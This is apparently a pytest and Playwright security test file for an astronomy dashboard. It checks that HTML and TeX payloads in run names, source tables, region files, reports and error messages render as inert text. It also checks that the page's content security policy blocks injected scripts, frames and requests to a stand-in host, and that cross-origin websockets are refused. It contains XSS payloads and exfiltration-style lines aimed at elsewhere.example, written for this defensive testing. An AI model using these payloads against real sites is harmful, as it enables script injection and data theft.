"""In a real browser: names and messages made of HTML are text everywhere, and what the page's policy forbids does not happen."""

from __future__ import annotations

import re
import warnings
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import replace
from pathlib import Path

import httpcore
import httpx
import numpy as np
import pytest
from astropy.io.fits.verify import VerifyWarning
from playwright.sync_api import Browser, Page, expect

from dashboard.combine.grid import Grid
from dashboard.errors import JobFailed
from dashboard.products.catalog import MeasuredSource, SourceTable
from dashboard.products.mosaic import Mosaic
from dashboard.report import report
from dashboard.runs.database import open_database
from dashboard.runs.ledger import Ledger
from dashboard.runs.source_document import write_sources
from dashboard.runs.store import RunStore
from tests.browser.conftest import Served, Visitor
from tests.combine.curves import curve
from tests.published import CRAB, PublishedRun
from tests.runs.sky_dispatcher import plan_of
from tests.spectra import spectrum

HOSTILE = "<img src=pwned onerror='window.pwned=1'>"
TEX = r"$$\href{javascript:pwned}{x}$$ $\frac{$"
FOUND = """() => {
  const every = root => [...root.querySelectorAll("*")].flatMap(e => [e, ...(e.shadowRoot ? every(e.shadowRoot) : [])])
  const read = /(title|aria-label|alt|value)="[^"]*"/g
  return every(document).map(e => e.outerHTML.replace(e.innerHTML, "").replace(read, "")).filter(tag => /pwned/.test(tag))
}"""
"""Elements that the hostile name has made: with its words in a tag, elsewhere than in an attribute that is only read."""


WANTED = ["script-src-elem", "script-src-attr", "frame-src", "object-src", "img-src", "connect-src", "base-uri"]
"""Directives that an attack on them breaks."""


@contextmanager
def websocket(site: Served, origin: str) -> Iterator[httpx.Response]:
    """What is answered to who wants to open a new session's websocket from a page of this origin."""
    token = re.findall(r'"token":\s*"([^"]+)"', httpx.get(site.url).text)[0]
    headers = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "x" * 22 + "=="}
    headers |= {"Sec-WebSocket-Protocol": f"bokeh, {token}", "Origin": origin}
    with httpx.stream("GET", f"{site.url}/ws", headers=headers) as response:
        yield response


def sources(*named: MeasuredSource) -> SourceTable:
    return SourceTable((CRAB, *named), HOSTILE, notes=(HOSTILE,), threshold=7.0)


@pytest.fixture(scope="module")
def hostile(site: Served) -> PublishedRun:
    """A run in which every text that comes from outside is HTML, and TeX."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", VerifyWarning)  # such a name leaves no place for the comment of its card
        return hostile_run(site)


def hostile_run(site: Served) -> PublishedRun:
    """What `hostile` gives."""
    plan = plan_of(4, product=["mosaic", "spectrum", "lightcurve"])
    run = PublishedRun(site.settings, replace(plan, target=replace(plan.target, name=HOSTILE, notes=(HOSTILE,))))
    run.set_state("done")
    grid = Grid("TAN", (83.6, 22.0), 0.08, (32, 32), (16.0, 16.0))
    plane = np.full((32, 32), 9.0, dtype="f4")
    origin = replace(spectrum().provenance, osa_version=HOSTILE, host=HOSTILE)
    mosaic = Mosaic(plane, np.ones_like(plane), plane, np.ones_like(plane), grid.wcs, band=(28.0, 40.0), unit=HOSTILE, provenance=origin)
    named = replace(CRAB, name=HOSTILE, dec=22.5, warnings=(HOSTILE,))
    for number, job in enumerate(run.plan.jobs):
        match job.product:
            case "mosaic":
                run.publish(number, mosaic)
                table = sources(named, replace(named, name=TEX, dec=21.5, kind="new"))
                run._write(number, "sources", lambda path, table=table: write_sources(table, path))  # type: ignore[misc]
            case "spectrum":
                run.publish(number, [spectrum(HOSTILE, provenance=origin), spectrum(TEX, provenance=origin)])
            case _:
                made = curve([3000.0, 3000.1], HOSTILE, unit=HOSTILE, provenance=origin)
                run.publish(number, [made, replace(made, source=TEX)])
    Ledger(open_database(site.settings), "test").failed(run.plan.jobs[0].batch_ids[0], JobFailed(f"It says {HOSTILE}."), None)
    run.set_state("done with failures")
    RunStore(site.settings).rename(run.run_id, HOSTILE)
    return run


@pytest.fixture
def defenceless(browser: Browser) -> Iterator[Page]:
    """A browser that heeds no policy, so that only what is written as text is text; nothing named so may be fetched or run."""
    context = browser.new_context(viewport={"width": 1440, "height": 900}, bypass_csp=True)
    page, asked = context.new_page(), []
    page.on("request", lambda request: asked.append(request.url))
    yield page
    assert page.evaluate("window.pwned") is None
    assert page.evaluate(FOUND) == []
    assert [url for url in asked if "pwned" in url] == []
    context.close()


@pytest.mark.slow
def test_a_hostile_name_is_text_in_every_pane_and_drawer(site: Served, hostile: PublishedRun, defenceless: Page) -> None:
    page, me = defenceless, Visitor(defenceless)
    RunStore(site.settings).share(hostile.run_id, name=HOSTILE)
    me.open(f"{site.url}?run={hostile.run_id}")
    me.wait_for_sources()
    for where in (".header .title", ".sources-pane", ".truth"):
        expect(page.locator(where).first).to_contain_text(HOSTILE, timeout=20_000)
    page.locator(".sources-pane .tabulator-row").nth(1).get_by_role("gridcell").first.click()
    me.plot("Sky,").tell("() => 1")
    page.mouse.move(*me.plot("Sky,").spot(16, 16))
    expect(page.locator(".readout").first).to_contain_text("RA ")
    me.click("flux")
    page.mouse.move(*me.plot("Sky, flux").spot(15, 15))
    expect(page.locator(".readout").first).to_contain_text(HOSTILE)
    for title in page.locator(".sources-pane .tabulator-col").filter(visible=True).all():
        title.hover()
    for drawer in ("Runs", "Share", "Gallery"):
        me.click(drawer)
        expect(page.locator(".drawer").filter(visible=True).first).to_be_visible(timeout=20_000)
        assert page.evaluate(FOUND) == [], drawer
        me.click(drawer)
    me.click("Batches")
    expect(page.get_by_text(f"It says {HOSTILE}.").first).to_be_visible(timeout=20_000)


@pytest.mark.slow
def test_a_hostile_name_is_text_to_who_has_a_link(site: Served, hostile: PublishedRun, defenceless: Page) -> None:
    defenceless.goto(f"{site.url}?link={RunStore(site.settings).share(hostile.run_id)}")
    expect(defenceless.locator(".header .title")).to_contain_text(HOSTILE, timeout=60_000)
    expect(defenceless.locator(".sources-pane")).to_contain_text(HOSTILE, timeout=20_000)


@pytest.mark.slow
def test_a_hostile_region_file_is_text(site: Served, hostile: PublishedRun, defenceless: Page) -> None:
    me = Visitor(defenceless)
    me.open(f"{site.url}?run={hostile.run_id}")
    me.wait_for_sources()
    defenceless.locator(".sky-pane .view button").click()
    for text in (f"fk5\ncircle({HOSTILE})\n", f"fk5\n{HOSTILE}(1,2,3)\ncircle(83.6,22,0.1) # text={{{HOSTILE}}}\n"):
        defenceless.locator(".region-file input").set_input_files({"name": "a.reg", "mimeType": "text/plain", "buffer": text.encode()})
        expect(defenceless.locator(".sky-menu")).to_contain_text(re.compile("pwned|1 region"), timeout=20_000)
        assert defenceless.evaluate(FOUND) == []


@pytest.mark.slow
def test_a_hostile_name_is_text_in_the_report(site: Served, hostile: PublishedRun, defenceless: Page, tmp_path: Path) -> None:
    store = RunStore(site.settings)
    file = tmp_path / "report.html"
    file.write_text(report(site.settings, store, store.state(hostile.run_id)))
    defenceless.goto(file.as_uri())
    expect(defenceless.get_by_role("heading", name=HOSTILE).first).to_be_visible()
    expect(defenceless.get_by_role("cell", name=TEX, exact=True).first).to_be_visible()


def test_what_is_slipped_into_the_page_does_not_run_and_reaches_no_other_host(site: Served, browser: Browser) -> None:
    context = browser.new_context()
    page, told = context.new_page(), []
    page.on("console", lambda message: told.append(message.text) if message.type == "error" else None)
    page.goto(site.url)
    page.get_by_role("button", name="Run", exact=True).wait_for(timeout=60_000)
    assert told == [], "the page keeps to its own policy"
    tried = page.evaluate(
        """async wanted => {
          const broken = []
          document.addEventListener("securitypolicyviolation", event => broken.push(event.effectiveDirective))
          const script = text => Object.assign(document.createElement("script"), {textContent: text})
          document.body.append(script("window.pwned = 1"))
          document.body.insertAdjacentHTML("beforeend", "<img src=data:, onerror='window.pwned = 1'>")
          document.body.insertAdjacentHTML("beforeend", "<a href='javascript:window.pwned = 1'>x</a>")
          document.body.lastElementChild.click()
          document.body.append(Object.assign(document.createElement("script"), {src: "https://elsewhere.example/a.js"}))
          document.body.append(Object.assign(document.createElement("iframe"), {src: "https://elsewhere.example/"}))
          document.body.append(Object.assign(document.createElement("object"), {data: "https://elsewhere.example/"}))
          document.body.append(Object.assign(new Image(), {src: "https://elsewhere.example/?secret"}))
          document.head.append(Object.assign(document.createElement("base"), {href: "https://elsewhere.example/"}))
          await fetch("https://elsewhere.example/").catch(() => {})
          try { new WebSocket("wss://elsewhere.example/") } catch {}
          await new Promise(done => {
            const look = () => wanted.every(each => broken.includes(each)) ? done() : setTimeout(look, 20)
            setTimeout(done, 10000)
            look()
          })
          return [window.pwned ?? null, broken]
        }""",
        WANTED,
    )
    assert tried[0] is None
    assert set(WANTED) <= set(tried[1]), tried
    context.close()


def test_a_page_of_another_origin_gets_no_websocket_and_no_script(site: Served) -> None:
    """Its own host is the only origin; who forges the header is no browser, and has no session of anybody's."""
    own = site.url.rpartition("/")[0]
    for origin, status in ((own, 101), ("https://elsewhere.example", 403), ("null", 403), (own.replace("127.0.0.1", "127.0.0.2"), 403)):
        with websocket(site, origin) as answer:
            assert answer.status_code == status, origin
    address = f"{site.url}/autoload.js?bokeh-autoload-element=a"
    elsewhere = {"Origin": "https://elsewhere.example", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors"}
    assert httpx.get(address, headers=elsewhere).status_code == 403
    told = httpx.get(address, headers={"Origin": "https://elsewhere.example", "Cookie": "user=a"}).headers
    assert not [name for name in told if name.startswith("access-control")]


@pytest.mark.slow
def test_a_message_of_21_mb_closes_its_websocket_alone(site: Served) -> None:
    size = 21_000_000
    with websocket(site, site.url.rpartition("/")[0]) as answer, suppress(httpcore.WriteError):
        assert answer.status_code == 101
        stream = answer.extensions["network_stream"]
        stream.write(b"\x81\xff" + size.to_bytes(8) + bytes(4) + b"a" * size, timeout=30)  # text, masked by zeros
        while stream.read(65536, timeout=30):
            pass
    assert httpx.get(f"{site.url.rpartition('/')[0]}/health").status_code == 200
